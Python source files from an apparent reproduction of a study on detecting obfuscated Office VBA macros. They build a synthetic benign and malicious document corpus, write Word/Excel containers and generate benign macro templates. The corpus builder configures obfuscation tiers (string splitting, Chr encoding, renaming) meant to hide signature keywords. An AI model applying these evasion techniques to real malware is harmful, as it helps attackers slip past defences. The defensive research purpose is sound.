            if re.search(r"\b(If|ElseIf|Do While|Do Until|While|Until)\b", line_text, re.IGNORECASE):
                report.findings.append(
                    AntiAnalysisFinding(
                        technique="flow_evasion",
                        detail=f"environment-check guard: {line_text.strip()!r}",
                        line=_line_of(source, match.start()),
                    )
                )
