"""CorpusBuilder: reproduce the paper's dataset population (Tables II & III).

The full-scale profile matches the paper exactly in structure:

* 773 benign files (75 Word / 698 Excel, collected as .docm/.xlsm via Google
  keyword search) carrying 3,380 macros of which 58 (1.7%) are obfuscated;
* 1,764 malicious files (1,410 Word / 354 Excel, mostly legacy .doc/.xls)
  drawing from 832 *unique* macros of which 819 (98.4%) are obfuscated —
  files heavily reuse macros, which is why the paper's dedup halves the
  malicious macro count relative to files;
* benign files are much larger (embedded media), malicious files small
  (downloaders carry no payload).

``scale`` shrinks the population proportionally for laptop-scale runs;
``size_scale`` shrinks file padding (the paper's 1.1 MB benign average would
make full corpora gigabytes).  Obfuscated malicious macros are produced by a
small set of obfuscation-tool *profiles* with fixed size targets, which is
exactly what creates the horizontal code-length clusters of Fig. 5(b).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field, replace

from repro.corpus.benign import generate_benign_macro, generate_benign_module
from repro.corpus.documents import SyntheticDocument, make_document
from repro.corpus.malicious import generate_malicious_macro
from repro.corpus.style import apply_style
from repro.obfuscation.base import make_context
from repro.obfuscation.encode import STRATEGIES, StringEncoder
from repro.obfuscation.pipeline import ObfuscationPipeline, build_profile
from repro.obfuscation.rename import RandomRenamer
from repro.obfuscation.split import StringSplitter


@dataclass(frozen=True)
class CorpusProfile:
    """Population parameters; defaults are the paper's full-scale numbers."""

    benign_word_files: int = 75
    benign_excel_files: int = 698
    malicious_word_files: int = 1410
    malicious_excel_files: int = 354
    benign_macros_total: int = 3380
    benign_obfuscated_macros: int = 58
    malicious_unique_macros: int = 832
    malicious_obfuscated_macros: int = 819
    #: Fraction of malicious files in legacy (.doc/.xls) formats; the paper
    #: notes the majority of macro malware is non-OOXML.
    malicious_legacy_fraction: float = 0.85
    #: Obfuscation-tool size targets driving Fig. 5(b) clusters.
    length_targets: tuple[int, ...] = (1500, 3000, 15000)
    #: Average benign / malicious file sizes, scaled from the paper's
    #: 1.1 MB / 0.06 MB by ``size_scale``.
    benign_target_size: int = 1_100_000
    size_scale: float = 0.1

    def scaled(self, scale: float) -> "CorpusProfile":
        """Shrink the population proportionally (structure preserved)."""
        if not 0.0 < scale <= 1.0:
            raise ValueError("scale must be in (0, 1]")

        def shrink(value: int, minimum: int = 1) -> int:
            return max(minimum, round(value * scale))

        benign_files = shrink(self.benign_word_files) + shrink(self.benign_excel_files)
        return replace(
            self,
            benign_word_files=shrink(self.benign_word_files),
            benign_excel_files=shrink(self.benign_excel_files),
            malicious_word_files=shrink(self.malicious_word_files),
            malicious_excel_files=shrink(self.malicious_excel_files),
            benign_macros_total=max(
                benign_files, shrink(self.benign_macros_total)
            ),
            benign_obfuscated_macros=shrink(self.benign_obfuscated_macros, 2),
            malicious_unique_macros=shrink(self.malicious_unique_macros, 5),
            malicious_obfuscated_macros=min(
                shrink(self.malicious_unique_macros, 5),
                shrink(self.malicious_obfuscated_macros, 4),
            ),
        )


def paper_profile() -> CorpusProfile:
    """The full Table II population."""
    return CorpusProfile()


def default_bench_profile() -> CorpusProfile:
    """A laptop-scale population preserving every ratio (≈15%)."""
    return CorpusProfile().scaled(0.15)


@dataclass
class Corpus:
    """The generated corpus plus its per-macro ground truth."""

    documents: list[SyntheticDocument]
    profile: CorpusProfile
    #: source text → True (obfuscated) / False, for every generated macro.
    truth: dict[str, bool] = field(default_factory=dict)

    @property
    def benign_documents(self) -> list[SyntheticDocument]:
        return [d for d in self.documents if not d.is_malicious]

    @property
    def malicious_documents(self) -> list[SyntheticDocument]:
        return [d for d in self.documents if d.is_malicious]

    def summary(self) -> dict[str, dict[str, float]]:
        """Table II rows: file counts by type and average size per group."""
        rows: dict[str, dict[str, float]] = {}
        for label, docs in (
            ("benign", self.benign_documents),
            ("malicious", self.malicious_documents),
        ):
            word = sum(1 for d in docs if d.host == "word")
            excel = sum(1 for d in docs if d.host == "excel")
            avg = sum(d.size for d in docs) / len(docs) if docs else 0.0
            rows[label] = {
                "files": len(docs),
                "word": word,
                "excel": excel,
                "avg_size": avg,
            }
        return rows


class CorpusBuilder:
    """Deterministic synthetic corpus generation."""

    def __init__(self, profile: CorpusProfile | None = None, seed: int = 2016) -> None:
        self.profile = profile or default_bench_profile()
        self.seed = seed

    # ------------------------------------------------------------------

    def build(self) -> Corpus:
        rng = random.Random(self.seed)
        truth: dict[str, bool] = {}
        documents: list[SyntheticDocument] = []
        documents.extend(self._build_benign(rng, truth))
        documents.extend(self._build_malicious(rng, truth))
        rng.shuffle(documents)
        return Corpus(documents=documents, profile=self.profile, truth=truth)

    # ------------------------------------------------------------------

    def _build_benign(
        self, rng: random.Random, truth: dict[str, bool]
    ) -> list[SyntheticDocument]:
        profile = self.profile
        file_hosts = ["word"] * profile.benign_word_files + [
            "excel"
        ] * profile.benign_excel_files
        n_files = len(file_hosts)

        # Distribute macros: every file gets one, the rest land randomly.
        counts = [1] * n_files
        for _ in range(profile.benign_macros_total - n_files):
            counts[rng.randrange(n_files)] += 1

        # A light obfuscation profile for the rare benign obfuscated macros
        # (intellectual-property protection, per the paper's discussion).
        light_profiles = [
            build_profile(
                rng, use_split=True, use_encode=False, use_logic=False,
                use_anti=False,
            )
            for _ in range(2)
        ]
        obfuscated_quota = profile.benign_obfuscated_macros

        documents = []
        macro_budget_used = 0
        for index, host in enumerate(file_hosts):
            sources: list[str] = []
            flags: list[bool] = []
            for _ in range(counts[index]):
                # Uniform target lengths reproduce Fig. 5(a): benign macro
                # code length shows no clustering.
                target = rng.randint(150, 16_000)
                source = apply_style(
                    generate_benign_module(rng, host, target_length=target), rng
                )
                obfuscate = (
                    obfuscated_quota > 0
                    and rng.random()
                    < obfuscated_quota
                    / max(1, profile.benign_macros_total - macro_budget_used)
                )
                if obfuscate:
                    pipeline = rng.choice(light_profiles)
                    source = pipeline.run(source, seed=rng.randrange(2**31)).source
                    obfuscated_quota -= 1
                truth.setdefault(source, obfuscate)
                sources.append(source)
                flags.append(obfuscate)
                macro_budget_used += 1
            padding = self._benign_padding(rng)
            file_format = "docm" if host == "word" else "xlsm"
            documents.append(
                make_document(
                    rng, sources, flags,
                    is_malicious=False,
                    file_format=file_format,
                    padding=padding,
                )
            )
        return documents

    def _benign_padding(self, rng: random.Random) -> int:
        target = self.profile.benign_target_size * self.profile.size_scale
        return max(0, int(rng.uniform(0.4, 1.6) * target))

    # ------------------------------------------------------------------

    def _build_malicious(
        self, rng: random.Random, truth: dict[str, bool]
    ) -> list[SyntheticDocument]:
        profile = self.profile
        pool = self._build_malicious_macro_pool(rng, truth)

        file_hosts = ["word"] * profile.malicious_word_files + [
            "excel"
        ] * profile.malicious_excel_files
        rng.shuffle(file_hosts)

        # Skewed reuse: a handful of campaign macros appear in many files.
        weights = [1.0 / (rank + 1) ** 0.7 for rank in range(len(pool))]

        documents = []
        for host in file_hosts:
            entry = rng.choices(pool, weights=weights, k=1)[0]
            source, obfuscated, docvars = entry
            sources, flags = [source], [obfuscated]
            if rng.random() < 0.1 and len(pool) > 1:
                extra = rng.choices(pool, weights=weights, k=1)[0]
                if extra[0] != source:
                    sources.append(extra[0])
                    flags.append(extra[1])
                    docvars = {**docvars, **extra[2]}
            legacy = rng.random() < profile.malicious_legacy_fraction
            if host == "word":
                file_format = "doc" if legacy else "docm"
            else:
                file_format = "xls" if legacy else "xlsm"
            documents.append(
                make_document(
                    rng, sources, flags,
                    is_malicious=True,
                    file_format=file_format,
                    document_variables=docvars,
                )
            )
        return documents

    def _build_malicious_macro_pool(
        self, rng: random.Random, truth: dict[str, bool]
    ) -> list[tuple[str, bool, dict[str, str]]]:
        """Unique malicious macros: (source, obfuscated, document variables)."""
        profile = self.profile
        n_obfuscated = min(
            profile.malicious_obfuscated_macros, profile.malicious_unique_macros
        )
        n_plain = profile.malicious_unique_macros - n_obfuscated

        # Obfuscation strength tiers, mirroring what campaign kits do:
        #
        # * strings-only — split + Replace()/Chr() encoding over the whole
        #   module, names untouched.  Signature keywords disappear (that is
        #   the attacker's goal) and VBA-specific features (V5 operator
        #   density, V8 text-function fraction) spike, but generic layout /
        #   readability statistics barely move — the tier the J set misses.
        # * rename-only — whole-module identifier randomization.
        # * medium — rename + split + encode combined.
        # * heavy — everything, with CrunchCode-style size padding to fixed
        #   targets (the Fig. 5(b) clusters).
        strings_only_profiles = [
            ObfuscationPipeline(
                [
                    StringSplitter(
                        min_length=rng.choice((5, 6)),
                        chunk_min=2,
                        chunk_max=rng.choice((3, 4)),
                        hoist_const_probability=0.0,
                    ),
                    StringEncoder(
                        min_length=rng.choice((6, 8)),
                        strategies=("replace_marker", "chr_concat"),
                        encode_probability=rng.uniform(0.5, 0.9),
                    ),
                ]
            )
            for _ in range(3)
        ]
        rename_profiles = [
            ObfuscationPipeline(
                [RandomRenamer(rename_fraction=rng.uniform(0.6, 1.0))]
            )
            for _ in range(2)
        ]
        medium_profiles = []
        for _ in range(3):
            transforms = [
                StringSplitter(
                    min_length=rng.choice((5, 6, 8)),
                    chunk_min=2,
                    chunk_max=rng.choice((4, 5)),
                    hoist_const_probability=rng.uniform(0.0, 0.2),
                ),
                StringEncoder(
                    min_length=rng.choice((6, 8, 10)),
                    strategies=tuple(rng.sample(STRATEGIES, rng.randint(1, 3))),
                    encode_probability=rng.uniform(0.3, 0.7),
                ),
                RandomRenamer(rename_fraction=rng.uniform(0.7, 1.0)),
            ]
            medium_profiles.append(ObfuscationPipeline(transforms))
        heavy_profiles = [
            build_profile(rng, use_anti=True, target_length=target)
            for target in profile.length_targets
        ]
        heavy_profiles.append(build_profile(rng, use_anti=True, target_length=None))
        tiers = (
            (strings_only_profiles, 0.35),
            (rename_profiles, 0.15),
            (medium_profiles, 0.20),
            (heavy_profiles, 0.30),
        )

        # Per-pipeline base-code size targets: variants produced by one
        # campaign kit share their surrounding code, so they share a length —
        # the horizontal clusters of Fig. 5(b).  The attacker's tool then
        # obfuscates the *whole assembled module*.
        base_targets: dict[int, int] = {}

        def base_target_for(pipeline) -> int:
            key = id(pipeline)
            if key not in base_targets:
                base_targets[key] = rng.choice(
                    tuple(profile.length_targets[:2]) or (1500,)
                )
            return base_targets[key]

        pool: list[tuple[str, bool, dict[str, str]]] = []
        for _ in range(n_obfuscated):
            host = rng.choice(("word", "excel"))
            base = generate_malicious_macro(rng, host)
            profiles = rng.choices(
                [t[0] for t in tiers], weights=[t[1] for t in tiers], k=1
            )[0]
            pipeline = rng.choice(profiles)
            if profiles is not heavy_profiles:
                # Assemble the campaign module (payload + pasted helper
                # code), then obfuscate all of it.
                target = base_target_for(pipeline)
                jitter = rng.uniform(0.85, 1.15)
                parts = [base]
                total = len(base)
                while total < target * jitter:
                    piece = generate_benign_macro(rng, host)
                    parts.append(piece)
                    total += len(piece) + 1
                rng.shuffle(parts)
                base = "\n".join(parts)
            context = make_context(rng.randrange(2**31))
            result = pipeline.run_with_context(base, context)
            styled = apply_style(result.source, rng)
            truth.setdefault(styled, True)
            pool.append((styled, True, result.document_variables))
        for _ in range(n_plain):
            host = rng.choice(("word", "excel"))
            source = apply_style(generate_malicious_macro(rng, host), rng)
            truth.setdefault(source, False)
            pool.append((source, False, {}))
        rng.shuffle(pool)
        return pool
