"""Assemble macros into synthetic Office document files.

Produces real container bytes — OOXML zip packages (``.docm``/``.xlsm``) or
legacy compound files (``.doc``/``.xls``) — that round-trip through
:mod:`repro.ole.extractor` exactly like the paper's collected samples round-
tripped through olevba.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.corpus import names
from repro.ole.cfb import CompoundFileWriter
from repro.ole.docvars import encode_docvars
from repro.ole.ooxml import DOCVARS_PART, build_docm, build_xlsm
from repro.ole.vba_project import VBAModule, build_vba_storage_streams

LEGACY_FORMATS = ("doc", "xls")
OOXML_FORMATS = ("docm", "xlsm")
WORD_FORMATS = ("doc", "docm")
EXCEL_FORMATS = ("xls", "xlsm")


@dataclass(slots=True)
class SyntheticDocument:
    """One generated document file plus its ground truth."""

    file_name: str
    file_format: str  # doc | xls | docm | xlsm
    data: bytes
    macro_sources: list[str]
    obfuscated_flags: list[bool]
    is_malicious: bool
    document_variables: dict[str, str] = field(default_factory=dict)

    @property
    def host(self) -> str:
        return "word" if self.file_format in WORD_FORMATS else "excel"

    @property
    def size(self) -> int:
        return len(self.data)


def _wrap_modules(sources: list[str], host: str) -> list[VBAModule]:
    """Name the modules the way Office does: the document/workbook class
    module first, then ``Module1`` …"""
    document_module = "ThisDocument" if host == "word" else "ThisWorkbook"
    modules = [VBAModule(document_module, sources[0], "document")]
    for index, source in enumerate(sources[1:], start=1):
        modules.append(VBAModule(f"Module{index}", source))
    return modules


def build_document_bytes(
    sources: list[str],
    file_format: str,
    document_variables: dict[str, str] | None = None,
    padding: int = 0,
) -> bytes:
    """Build container bytes of the requested format around macro sources."""
    if not sources:
        raise ValueError("a macro-enabled document needs at least one macro")
    host = "word" if file_format in WORD_FORMATS else "excel"
    modules = _wrap_modules(sources, host)
    vba_streams = build_vba_storage_streams(modules)

    if file_format in OOXML_FORMATS:
        vba_writer = CompoundFileWriter()
        for path, data in vba_streams.items():
            vba_writer.add_stream(path, data)
        vba_bin = vba_writer.tobytes()
        extra = {}
        if document_variables:
            extra[DOCVARS_PART] = encode_docvars(document_variables)
        if file_format == "docm":
            return build_docm(vba_bin, extra_parts=extra, padding=padding)
        return build_xlsm(vba_bin, extra_parts=extra, padding=padding)

    if file_format not in LEGACY_FORMATS:
        raise ValueError(f"unknown format {file_format!r}")
    writer = CompoundFileWriter()
    if file_format == "doc":
        writer.add_stream("WordDocument", b"\xec\xa5\xc1\x00" + b"\x00" * 128)
        prefix = "Macros"
    else:
        writer.add_stream("Workbook", b"\x09\x08\x10\x00" + b"\x00" * 128)
        prefix = "_VBA_PROJECT_CUR"
    for path, data in vba_streams.items():
        writer.add_stream(f"{prefix}/{path}", data)
    if document_variables:
        writer.add_stream("ReproDocVars", encode_docvars(document_variables))
    if padding > 0:
        # Embedded media / binary content that makes benign files large.
        for index in range(0, padding, 200_000):
            chunk = min(200_000, padding - index)
            writer.add_stream(f"ObjectPool/media{index // 200_000}", b"\x00" * chunk)
    return writer.tobytes()


def make_document(
    rng: random.Random,
    sources: list[str],
    obfuscated_flags: list[bool],
    is_malicious: bool,
    file_format: str,
    document_variables: dict[str, str] | None = None,
    padding: int = 0,
) -> SyntheticDocument:
    """Build a :class:`SyntheticDocument` with a plausible file name."""
    if len(sources) != len(obfuscated_flags):
        raise ValueError("sources and flags must align")
    return SyntheticDocument(
        file_name=names.file_name(rng, file_format),
        file_format=file_format,
        data=build_document_bytes(
            sources, file_format, document_variables, padding
        ),
        macro_sources=list(sources),
        obfuscated_flags=list(obfuscated_flags),
        is_malicious=is_malicious,
        document_variables=dict(document_variables or {}),
    )
