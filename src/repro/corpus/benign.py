"""Benign VBA macro template families.

Each family is a callable ``(rng) -> str`` producing a realistic macro of the
kind the paper's benign corpus contains (Excel/Word office automation
collected via Google keyword search).  Families vary identifiers, constants,
loop bounds and comments through the RNG, so two draws are textually distinct
macros — the corpus deduplication step (Section IV.B) then behaves like the
paper's.
"""

from __future__ import annotations

import random

from repro.corpus import names
from repro.vba.writer import CodeWriter


def _maybe_comment(writer: CodeWriter, rng: random.Random, probability: float = 0.25) -> None:
    if rng.random() < probability:
        writer.line(f"'{rng.choice(names.COMMENT_PHRASES)}")


def format_header_macro(rng: random.Random) -> str:
    proc = names.procedure_name(rng)
    row_var = names.variable_name(rng)
    last_col = rng.randint(5, 26)
    writer = CodeWriter()
    _maybe_comment(writer, rng)
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line(f"Dim {row_var} As Long")
        writer.line(f"{row_var} = 1")
        writer.line(f'Worksheets("{rng.choice(names.SHEET_NAMES)}").Activate')
        with writer.block(
            f"With Range(Cells({row_var}, 1), Cells({row_var}, {last_col}))", "End With"
        ):
            writer.line(".Font.Bold = True")
            writer.line(f".Interior.ColorIndex = {rng.randint(3, 40)}")
            writer.line(f'.NumberFormat = "{rng.choice(("General", "0.00", "#,##0"))}"')
            if rng.random() < 0.5:
                writer.line(".Borders.LineStyle = 1")
    return writer.render()


def sum_column_macro(rng: random.Random) -> str:
    proc = names.procedure_name(rng)
    total, row, last = (names.variable_name(rng) for _ in range(3))
    while len({total, row, last}) < 3:
        total, row, last = (names.variable_name(rng) for _ in range(3))
    column = rng.randint(1, 12)
    writer = CodeWriter()
    with writer.block(f"Function {proc}() As Double", "End Function"):
        writer.line(f"Dim {total} As Double")
        writer.line(f"Dim {row} As Long")
        writer.line(f"Dim {last} As Long")
        writer.line(f"{last} = Cells(Rows.Count, {column}).End(xlUp).Row")
        _maybe_comment(writer, rng)
        with writer.block(f"For {row} = 2 To {last}", f"Next {row}"):
            with writer.block(
                f"If IsNumeric(Cells({row}, {column}).Value) Then", "End If"
            ):
                writer.line(f"{total} = {total} + Cells({row}, {column}).Value")
        writer.line(f"{proc} = {total}")
    return writer.render()


def send_email_macro(rng: random.Random) -> str:
    proc = names.procedure_name(rng)
    subject = rng.choice(names.EMAIL_SUBJECTS)
    writer = CodeWriter()
    _maybe_comment(writer, rng, 0.7)
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line("Dim OutlookApp As Object")
        writer.line("Dim MItem As Object")
        writer.line('Set OutlookApp = CreateObject("Outlook.Application")')
        writer.line("Set MItem = OutlookApp.CreateItem(0)")
        with writer.block("With MItem", "End With"):
            writer.line(f'.To = Range("A{rng.randint(1, 9)}").Value')
            writer.line(f'.Subject = "{subject}"')
            writer.line('.Body = "Please find the details attached."')
            if rng.random() < 0.5:
                writer.line(".Attachments.Add ActiveWorkbook.FullName")
            writer.line(".Display")
    return writer.render()


def save_backup_macro(rng: random.Random) -> str:
    proc = names.procedure_name(rng)
    path_var = names.variable_name(rng)
    stem = rng.choice(names.FILE_STEMS)
    writer = CodeWriter()
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line(f"Dim {path_var} As String")
        writer.line(
            f'{path_var} = ThisWorkbook.Path & "\\{stem}_" & '
            'Format(Now, "yyyymmdd") & ".xlsx"'
        )
        _maybe_comment(writer, rng)
        writer.line("Application.DisplayAlerts = False")
        writer.line(f"ThisWorkbook.SaveCopyAs {path_var}")
        writer.line("Application.DisplayAlerts = True")
        writer.line(f'MsgBox "Backup saved to " & {path_var}')
    return writer.render()


def clean_text_macro(rng: random.Random) -> str:
    proc = names.procedure_name(rng)
    cell_var = names.variable_name(rng)
    column = rng.choice("ABCDEF")
    writer = CodeWriter()
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line(f"Dim {cell_var} As Range")
        _maybe_comment(writer, rng)
        with writer.block(
            f'For Each {cell_var} In Range("{column}1:{column}{rng.randint(50, 500)}")',
            f"Next {cell_var}",
        ):
            with writer.block(f"If Not IsEmpty({cell_var}.Value) Then", "End If"):
                writer.line(f"{cell_var}.Value = Trim({cell_var}.Value)")
                if rng.random() < 0.5:
                    writer.line(f"{cell_var}.Value = UCase({cell_var}.Value)")
                else:
                    writer.line(
                        f'{cell_var}.Value = Replace({cell_var}.Value, "  ", " ")'
                    )
    return writer.render()


def date_report_macro(rng: random.Random) -> str:
    proc = names.procedure_name(rng)
    month_var = names.variable_name(rng)
    writer = CodeWriter()
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line(f"Dim {month_var} As Integer")
        with writer.block(f"For {month_var} = 1 To 12", f"Next {month_var}"):
            writer.line(
                f"Cells({month_var} + 1, 1).Value = MonthName({month_var})"
            )
            writer.line(
                f"Cells({month_var} + 1, 2).Value = "
                f"WorksheetFunction.SumIf(Range(\"A:A\"), {month_var}, Range(\"B:B\"))"
            )
        _maybe_comment(writer, rng)
        writer.line('Columns("A:B").AutoFit')
    return writer.render()


def validation_macro(rng: random.Random) -> str:
    proc = names.procedure_name(rng)
    value_var = names.variable_name(rng)
    limit = rng.randint(100, 10_000)
    writer = CodeWriter()
    with writer.block(f"Function {proc}(ByVal {value_var} As Double) As Boolean", "End Function"):
        writer.line(f"{proc} = True")
        with writer.block(f"If {value_var} < 0 Then", "End If"):
            writer.line(f"{proc} = False")
            writer.line(f'MsgBox "Value must not be negative"')
        with writer.block(f"If {value_var} > {limit} Then", "End If"):
            writer.line(f"{proc} = False")
            writer.line(f'MsgBox "Value exceeds the {limit} limit"')
    return writer.render()


def sort_range_macro(rng: random.Random) -> str:
    proc = names.procedure_name(rng)
    sheet = rng.choice(names.SHEET_NAMES)
    column = rng.choice("ABCD")
    writer = CodeWriter()
    _maybe_comment(writer, rng)
    with writer.block(f"Sub {proc}()", "End Sub"):
        with writer.block(f'With Worksheets("{sheet}").Sort', "End With"):
            writer.line(f'.SortFields.Add Key:=Range("{column}1"), Order:=1')
            writer.line(f'.SetRange Range("A1:F{rng.randint(100, 900)}")')
            writer.line(".Header = 1")
            writer.line(".Apply")
    return writer.render()


def chart_macro(rng: random.Random) -> str:
    proc = names.procedure_name(rng)
    writer = CodeWriter()
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line("Dim chartObj As Object")
        writer.line(
            f"Set chartObj = ActiveSheet.ChartObjects.Add(10, 10, {rng.randint(200, 500)}, {rng.randint(150, 350)})"
        )
        with writer.block("With chartObj.Chart", "End With"):
            writer.line(f'.SetSourceData Worksheets("{rng.choice(names.SHEET_NAMES)}").Range("A1:B{rng.randint(10, 60)}")')
            writer.line(f".ChartType = {rng.choice((4, 5, 51, 57))}")
            writer.line(f'.HasTitle = True')
            writer.line(f'.ChartTitle.Text = "{rng.choice(names.NOUNS)} by {rng.choice(names.NOUNS)}"')
    return writer.render()


def word_mail_merge_macro(rng: random.Random) -> str:
    proc = names.procedure_name(rng)
    writer = CodeWriter()
    _maybe_comment(writer, rng)
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line("Dim doc As Document")
        writer.line("Set doc = ActiveDocument")
        with writer.block("With doc.MailMerge", "End With"):
            writer.line('.OpenDataSource Name:=ThisDocument.Path & "\\contacts.xlsx"')
            writer.line(".Destination = 0")
            writer.line(f".SuppressBlankLines = {rng.choice(('True', 'False'))}")
            writer.line(".Execute")
    return writer.render()


def word_styles_macro(rng: random.Random) -> str:
    proc = names.procedure_name(rng)
    para_var = names.variable_name(rng)
    size = rng.randint(9, 14)
    writer = CodeWriter()
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line(f"Dim {para_var} As Paragraph")
        with writer.block(
            f"For Each {para_var} In ActiveDocument.Paragraphs", f"Next {para_var}"
        ):
            with writer.block(
                f"If {para_var}.OutlineLevel = 1 Then", "End If"
            ):
                writer.line(f"{para_var}.Range.Font.Size = {size + 4}")
                writer.line(f"{para_var}.Range.Font.Bold = True")
        _maybe_comment(writer, rng)
        writer.line(f"ActiveDocument.Content.Font.Size = {size}")
    return writer.render()


def file_list_macro(rng: random.Random) -> str:
    proc = names.procedure_name(rng)
    file_var = names.variable_name(rng)
    row_var = names.variable_name(rng)
    while row_var == file_var:
        row_var = names.variable_name(rng)
    writer = CodeWriter()
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line(f"Dim {file_var} As String")
        writer.line(f"Dim {row_var} As Long")
        writer.line(f"{row_var} = 1")
        writer.line(f'{file_var} = Dir(ThisWorkbook.Path & "\\*.{rng.choice(("xlsx", "csv", "txt"))}")')
        with writer.block(f'Do While {file_var} <> ""', "Loop"):
            writer.line(f"Cells({row_var}, 1).Value = {file_var}")
            writer.line(f"{row_var} = {row_var} + 1")
            writer.line(f"{file_var} = Dir()")
    return writer.render()


def progress_counter_macro(rng: random.Random) -> str:
    """The paper's Fig. 2 shape, un-obfuscated: a simple DoEvents loop."""
    proc = names.procedure_name(rng)
    counter = names.variable_name(rng)
    limit = rng.randint(20, 80)
    writer = CodeWriter()
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line(f"Dim {counter} As Integer")
        writer.line(f"{counter} = {rng.randint(1, 5)}")
        with writer.block(f"Do While {counter} < {limit}", "Loop"):
            writer.line(f"DoEvents: {counter} = {counter} + 1")
        writer.line(f'Application.StatusBar = "Done after " & {counter} & " steps"')
    return writer.render()


def pivot_refresh_macro(rng: random.Random) -> str:
    proc = names.procedure_name(rng)
    pivot_var = names.variable_name(rng)
    sheet_var = names.variable_name(rng)
    while sheet_var == pivot_var:
        sheet_var = names.variable_name(rng)
    writer = CodeWriter()
    _maybe_comment(writer, rng)
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line(f"Dim {sheet_var} As Worksheet")
        writer.line(f"Dim {pivot_var} As PivotTable")
        with writer.block(
            f"For Each {sheet_var} In ThisWorkbook.Worksheets", f"Next {sheet_var}"
        ):
            with writer.block(
                f"For Each {pivot_var} In {sheet_var}.PivotTables", f"Next {pivot_var}"
            ):
                writer.line(f"{pivot_var}.RefreshTable")
        writer.line('MsgBox "All pivot tables refreshed"')
    return writer.render()


#: All benign families, tagged by the host application they fit.
BENIGN_FAMILIES: tuple[tuple[str, object], ...] = (
    ("excel", format_header_macro),
    ("excel", sum_column_macro),
    ("excel", send_email_macro),
    ("excel", save_backup_macro),
    ("excel", clean_text_macro),
    ("excel", date_report_macro),
    ("excel", validation_macro),
    ("excel", sort_range_macro),
    ("excel", chart_macro),
    ("excel", file_list_macro),
    ("excel", progress_counter_macro),
    ("excel", pivot_refresh_macro),
    ("word", word_mail_merge_macro),
    ("word", word_styles_macro),
    ("word", progress_counter_macro),
)


def generate_benign_macro(rng: random.Random, host: str | None = None) -> str:
    """Draw one benign macro, optionally restricted to a host application."""
    families = [
        generator
        for family_host, generator in BENIGN_FAMILIES
        if host is None or family_host == host
    ]
    return rng.choice(families)(rng)


def lookup_table_macro(rng: random.Random) -> str:
    """A string-rich benign macro: constant lookup tables and joins.

    Benign automation legitimately uses many string literals and ``&``
    concatenation — noise that stresses string-count features.
    """
    proc = names.procedure_name(rng)
    kind = rng.choice(("months", "regions", "codes"))
    if kind == "months":
        items = [
            "January", "February", "March", "April", "May", "June",
            "July", "August", "September", "October", "November", "December",
        ]
    elif kind == "regions":
        items = [
            "North", "South", "East", "West", "Central", "Overseas",
            "Domestic", "Export", "Wholesale", "Retail",
        ]
    else:
        items = [f"{rng.choice(names.NOUNS)}-{rng.randint(100, 999)}" for _ in range(rng.randint(8, 16))]
    writer = CodeWriter()
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line("Dim labels As Variant")
        quoted = ", ".join(f'"{item}"' for item in items)
        writer.line(f"labels = Array({quoted})")
        writer.line("Dim i As Long")
        with writer.block("For i = LBound(labels) To UBound(labels)", "Next i"):
            writer.line("Cells(i + 2, 1).Value = labels(i)")
            writer.line(f'Cells(i + 2, 2).Value = "{rng.choice(names.NOUNS)}: " & labels(i) & " total"')
    return writer.render()


def sql_query_macro(rng: random.Random) -> str:
    """Benign data-import macro with long SQL strings and concatenation."""
    proc = names.procedure_name(rng)
    table = rng.choice(("Orders", "Customers", "Invoices", "Inventory", "Payroll"))
    columns = ", ".join(rng.sample(
        ("id", "name", "amount", "created_at", "status", "region", "owner"),
        rng.randint(3, 5),
    ))
    writer = CodeWriter()
    _maybe_comment(writer, rng)
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line("Dim conn As Object")
        writer.line("Dim rs As Object")
        writer.line("Dim sql As String")
        writer.line('Set conn = CreateObject("ADODB.Connection")')
        writer.line(f'sql = "SELECT {columns} " & _')
        writer.line(f'      "FROM {table} " & _')
        writer.line(f'      "WHERE created_at >= ''{rng.randint(2014, 2017)}-01-01'' " & _')
        writer.line(f'      "ORDER BY {columns.split(", ")[0]}"')
        writer.line('conn.Open "DSN=warehouse;UID=report;PWD=" & Environ("REPORT_PW")')
        writer.line("Set rs = conn.Execute(sql)")
        with writer.block("Do While Not rs.EOF", "Loop"):
            writer.line('ActiveSheet.Cells(rs.AbsolutePosition, 1).Value = rs.Fields(0).Value')
            writer.line("rs.MoveNext")
        writer.line("conn.Close")
    return writer.render()


def status_message_macro(rng: random.Random) -> str:
    """Benign macro assembling user-facing messages with many operators."""
    proc = names.procedure_name(rng)
    who = names.variable_name(rng)
    writer = CodeWriter()
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line(f"Dim {who} As String")
        writer.line(f'{who} = Environ("USERNAME")')
        writer.line(
            'MsgBox "Hello " & ' + who + ' & ", the ' +
            rng.choice(names.NOUNS).lower() +
            ' run finished at " & Format(Now, "hh:mm") & ' +
            '" with " & ActiveSheet.UsedRange.Rows.Count & " rows."'
        )
        if rng.random() < 0.5:
            writer.line(
                'Application.StatusBar = "Saved to " & ThisWorkbook.Path & "\\out_" & '
                'Format(Date, "yyyymmdd") & ".xlsx"'
            )
    return writer.render()


#: Extended family table including the string-rich templates.
BENIGN_FAMILIES = BENIGN_FAMILIES + (
    ("excel", lookup_table_macro),
    ("excel", sql_query_macro),
    ("excel", status_message_macro),
    ("word", status_message_macro),
)


def generate_benign_module(
    rng: random.Random,
    host: str | None = None,
    target_length: int | None = None,
) -> str:
    """Generate one module holding one or more benign procedures.

    Real benign modules often contain many procedures; drawing
    ``target_length`` uniformly (the builder does, between ~150 and ~16,000
    characters) reproduces the paper's Fig. 5(a): benign code lengths are
    uniformly distributed with no clustering.
    """
    if target_length is None:
        target_length = rng.randint(150, 16_000)
    parts = [generate_benign_macro(rng, host)]
    total = len(parts[0])
    while total < target_length:
        piece = generate_benign_macro(rng, host)
        parts.append(piece)
        total += len(piece) + 1
    module = "\n".join(parts)
    if rng.random() < 0.35:
        module = compact_style(module, rng)
    return module


